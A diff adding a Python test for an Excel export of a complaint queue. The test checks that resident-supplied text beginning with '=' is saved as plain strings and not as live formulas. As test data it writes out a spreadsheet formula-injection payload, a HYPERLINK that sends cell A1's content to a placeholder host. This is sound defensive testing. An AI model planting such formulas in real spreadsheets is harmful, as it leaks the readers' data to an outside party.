@@ -1248,6 +1248,19 @@ def test_the_queue_goes_to_excel_as_the_page_shows_it(
     odd = {q.items[0].code: QueueDetail("村", "中心", "楼道\x08堆物\x1f")}
     sheet = load_workbook(BytesIO(queue_xlsx(q, title="t", details=odd))).active
     assert sheet is not None and sheet.cell(3, 16).value == "楼道堆物"
+    # words that begin with "=" (a resident's, an imported row's) stay words: as a formula they
+    # would run in the reader's Excel
+    import zipfile
+
+    said = '=HYPERLINK("http://x.example/?"&A1,"点此查看")'
+    odd = {q.items[0].code: QueueDetail("=村", "中心", said)}
+    book = queue_xlsx(q, title="t", details=odd)
+    sheet = load_workbook(BytesIO(book)).active
+    assert sheet is not None
+    assert (sheet.cell(3, 16).value, sheet.cell(3, 16).data_type) == (said, "s")
+    assert sheet.cell(3, 9).value == "=村"
+    with zipfile.ZipFile(BytesIO(book)) as z:
+        assert "<f>" not in z.read("xl/worksheets/sheet1.xml").decode()
     assert abs((mine[10] - received).total_seconds()) < 1  # Beijing time, as dates
     assert abs((mine[11] - deadline).total_seconds()) < 1
     assert ws["A3"].number_format == "@" and ws.freeze_panes == "B3"
